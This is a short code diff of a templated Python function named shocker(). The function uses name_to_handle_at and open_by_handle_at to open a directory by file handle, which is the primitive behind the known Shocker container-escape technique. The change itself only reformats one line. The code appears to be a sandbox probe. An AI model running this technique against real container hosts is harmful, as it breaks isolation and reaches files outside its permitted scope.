@@ -8,7 +8,8 @@ def shocker():
     handle = bytearray(struct.pack("Ii", 128, 0) + bytes(128))
     buffer = (ctypes.c_char * len(handle)).from_buffer(handle)
     mount = ctypes.c_int()
-    syscall("name_to_handle_at", -100, b"{{dir}}" if os.path.exists("{{dir}}") else b"/workspace", ctypes.addressof(buffer), ctypes.addressof(mount), 0)
+    syscall("name_to_handle_at", -100, b"{{dir}}" if os.path.exists("{{dir}}") else b"/workspace",
+        ctypes.addressof(buffer), ctypes.addressof(mount), 0)
     directory = os.open("{{dir}}" if os.path.exists("{{dir}}") else "/workspace", os.O_RDONLY)
     opened = syscall("open_by_handle_at", directory, ctypes.addressof(buffer), os.O_RDONLY)
     return f"opened as descriptor {opened}"
